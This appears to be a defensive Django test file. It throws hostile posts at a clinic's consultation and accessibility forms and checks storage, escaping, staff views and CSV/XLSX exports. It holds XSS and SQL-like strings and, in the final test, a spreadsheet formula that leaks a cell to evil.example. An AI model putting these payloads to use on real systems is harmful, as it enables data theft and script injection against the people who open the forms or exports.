"""Whatever is thrown at the two public forms, through the real URLs and middleware: the visitor
never gets a server error; a request is stored only when the post was valid, exactly as typed
(less control characters and surrounding spaces; phone numbers in E.164) and without anything
the visitor may not set; a rejected post shows the error summary with every answer kept and
escaped; and intake staff see stored answers escaped, never as markup."""

import csv
import io
import re
from collections import Counter

import markupsafe
import openpyxl
import pytest
from bs4 import BeautifulSoup
from django.test import Client
from django.urls import reverse
from django.utils.html import escape
from hypothesis import event, given
from hypothesis import strategies as st
from wagtail.models import ModelLogEntry

from appointments.models import ConsultationRequest
from appointments.models.requests import REFERENCE_ALPHABET
from tests.appointments.helpers import aged_timing_token, consultation_data

from .strategies import (
    ACCESSIBILITY,
    CONSULTATION,
    PHONES,
    PROPERTY_SETTINGS,
    XSS_PAYLOADS,
    FormSpec,
    Post,
    accessibility_posts,
    consultation_posts,
    without_control_characters,
)

pytestmark = pytest.mark.django_db

E164 = re.compile(r"\+[1-9]\d{6,14}")


def assert_no_live_markup(content: str) -> None:
    for payload in XSS_PAYLOADS:
        assert payload not in content, f"unescaped {payload!r}"


def choices_offered(page: BeautifulSoup, name: str) -> dict[str, bool]:
    """The values of a radio group or select, each with whether it is the one chosen."""
    radios = page.find_all("input", attrs={"name": name, "type": "radio"})
    if radios:
        return {radio["value"]: radio.has_attr("checked") for radio in radios}
    options = page.find("select", attrs={"name": name}).find_all("option")
    return {option["value"]: option.has_attr("selected") for option in options}


def assert_answers_kept(response, post: Post, spec: FormSpec) -> None:
    """The page says what is wrong and shows every answer as typed, escaped."""
    content = response.content.decode()
    # The error summary and the form, without the header and footer around them.
    main = content[content.index("<main") : content.index("</main>")]
    page = BeautifulSoup(main, "html.parser")
    summary = page.find(attrs={"data-error-summary": True})
    assert summary is not None and summary.find("li") is not None
    for name in [*spec.text_limits, *spec.formatted]:
        typed = post.value(name)
        widget = page.find(["input", "textarea"], attrs={"name": name})
        if widget.name == "input":
            shown = widget.get("value", "")
        else:  # HTML drops a textarea's first line break, so Django writes one before the text
            shown = widget.get_text().removeprefix("\n")
        assert shown == typed, name
        # Escaped as the visitors' templates escape (Jinja2's markupsafe: &#34; for a quote).
        assert markupsafe.escape(typed) in content, name
    for name in [*spec.choices, *spec.page_choices]:
        offered = choices_offered(page, name)
        if post.value(name) in offered:
            assert offered[post.value(name)], name
    assert_no_live_markup(content)


def assert_stored_as_typed(stored: ConsultationRequest, post: Post, spec: FormSpec) -> None:
    for name in spec.text_limits:
        assert getattr(stored, name) == post.value(name).strip(), name
    if spec is ACCESSIBILITY:
        assert stored.kind == "accessibility"
        return
    assert stored.kind == "consultation"
    assert stored.email == post.value("email").strip()
    phone = post.value("phone").strip()
    if phone in PHONES or not phone:
        assert stored.phone == PHONES.get(phone, "")
    else:
        assert E164.fullmatch(stored.phone), stored.phone
    for name in spec.choices:
        assert getattr(stored, name) == post.value(name), name
    for name in spec.page_choices:
        assert getattr(stored, f"{name}_id") == (
            int(post.value(name)) if post.value(name) else None
        )
    assert stored.interpreter_needed == ("interpreter_needed" in post.fields)


def assert_staff_fields_untouched(stored: ConsultationRequest, post: Post) -> None:
    """Fields only staff or the site set keep their defaults, whatever extra fields arrive."""
    assert stored.status == "new"
    assert stored.assignee_id is None
    assert stored.first_contact_at is None
    # No note: a visitor cannot write into the request's timeline.
    assert not ModelLogEntry.objects.filter(
        object_id=str(stored.pk), action="appointments.note"
    ).exists()
    assert stored.notified_at is None
    assert stored.submitted_language == "en"
    assert stored.flags == ("fast_submit" if post.forged_timing else "")
    assert len(stored.reference) == 6 and set(stored.reference) <= set(REFERENCE_ALPHABET)


def assert_shown_escaped_to_staff(staff: Client, stored: ConsultationRequest, view: str) -> None:
    response = staff.get(reverse(f"consultation_requests:{view}", args=[stored.pk]))
    assert response.status_code == 200
    content = response.content.decode()
    for name in ("full_name", "contact_details", "referring_clinician", "message"):
        for line in getattr(stored, name).splitlines():
            assert escape(line) in content, (view, name)
    assert_no_live_markup(content)


def check_hostile_posts(
    client: Client, staff: Client, url: str, posts: st.SearchStrategy[Post], spec: FormSpec
) -> Counter:
    """Run the property over 300 posts; return how many were accepted, dropped, rejected."""
    outcomes: Counter = Counter()

    @PROPERTY_SETTINGS
    @given(post=posts, staff_view=st.sampled_from(["inspect", "edit"]))
    def property_holds(post: Post, staff_view: str) -> None:
        ConsultationRequest.objects.all().delete()
        response = post.send(client, url)
        assert response.status_code in (200, 302)
        stored = list(ConsultationRequest.objects.all())
        if response.status_code == 200:
            outcome = "rejected"
            assert stored == []
            assert_answers_kept(response, post, spec)
        elif post.honeypot:
            outcome = "dropped"
            assert stored == []
        else:
            outcome = "accepted"
            assert not post.must_fail, "an invalid post was stored"
            assert response.url == url + "confirmation/"
            assert len(stored) == 1
            assert_stored_as_typed(stored[0], post, spec)
            assert_staff_fields_untouched(stored[0], post)
            # Only text with characters HTML treats specially can show whether it is escaped.
            if any(set(getattr(stored[0], name)) & set("<>&\"'") for name in spec.text_limits):
                assert_shown_escaped_to_staff(staff, stored[0], staff_view)
                outcomes["shown to staff"] += 1
        event(outcome)
        outcomes[outcome] += 1

    property_holds()
    return outcomes


def assert_both_branches_ran(outcomes: Counter) -> None:
    print(f"outcomes: {dict(outcomes)}")
    assert outcomes["accepted"] >= 30 and outcomes["rejected"] >= 30, outcomes
    assert outcomes["shown to staff"] >= 30, outcomes


def test_consultation_form_stores_only_valid_posts_and_never_fails(
    client, intake_client, consultation_page, clinic_site, open_forms
):
    posts = consultation_posts(
        aged_timing_token(), clinic_site.condition.pk, clinic_site.physician.pk
    )
    outcomes = check_hostile_posts(
        client, intake_client, consultation_page.url, posts, CONSULTATION
    )
    assert_both_branches_ran(outcomes)


def test_accessibility_form_stores_only_valid_posts_and_never_fails(
    client, intake_client, clinic_site, open_forms
):
    posts = accessibility_posts(aged_timing_token())
    url = clinic_site.accessibility.url
    outcomes = check_hostile_posts(client, intake_client, url, posts, ACCESSIBILITY)
    assert_both_branches_ran(outcomes)


def exported(staff: Client, export_format: str) -> bytes:
    response = staff.get(reverse("consultation_requests:index"), {"export": export_format})
    assert response.status_code == 200
    return b"".join(response.streaming_content) if response.streaming else response.content


def test_hostile_answers_survive_both_inbox_exports(
    client, intake_client, consultation_page, open_forms
):
    """A control character in one request once made the XLSX export fail for everybody."""
    name = "Zoë \x07\x1b<script>alert(1)</script> \u202eO'Brien; DROP TABLE x"
    message = "\x00\x0b\x0cLine one\r\nLine two\x7f\x85 😀 مرحبا"
    response = client.post(
        consultation_page.url, consultation_data(full_name=name, message=message)
    )
    assert response.status_code == 302
    stored = ConsultationRequest.objects.get()
    assert stored.full_name == without_control_characters(name)
    assert stored.message == without_control_characters(message)

    rows = list(csv.reader(io.StringIO(exported(intake_client, "csv").decode())))
    assert stored.full_name in rows[1] and stored.message in rows[1]
    workbook = openpyxl.load_workbook(io.BytesIO(exported(intake_client, "xlsx")))
    cells = [cell.value for cell in workbook.active[2]]
    # A spreadsheet, being XML, reads every line break as \n.
    assert stored.full_name in cells and stored.message.replace("\r\n", "\n") in cells


def test_csv_export_never_hands_a_spreadsheet_a_formula(
    client, intake_client, consultation_page, open_forms
):
    formula = '=HYPERLINK("http://evil.example/?leak="&C2,"Open")'
    response = client.post(consultation_page.url, consultation_data(full_name=formula))
    assert response.status_code == 302
    rows = list(csv.reader(io.StringIO(exported(intake_client, "csv").decode())))
    assert not any(cell.startswith("=") for cell in rows[1])
    assert "'" + formula in rows[1]  # kept whole, as text
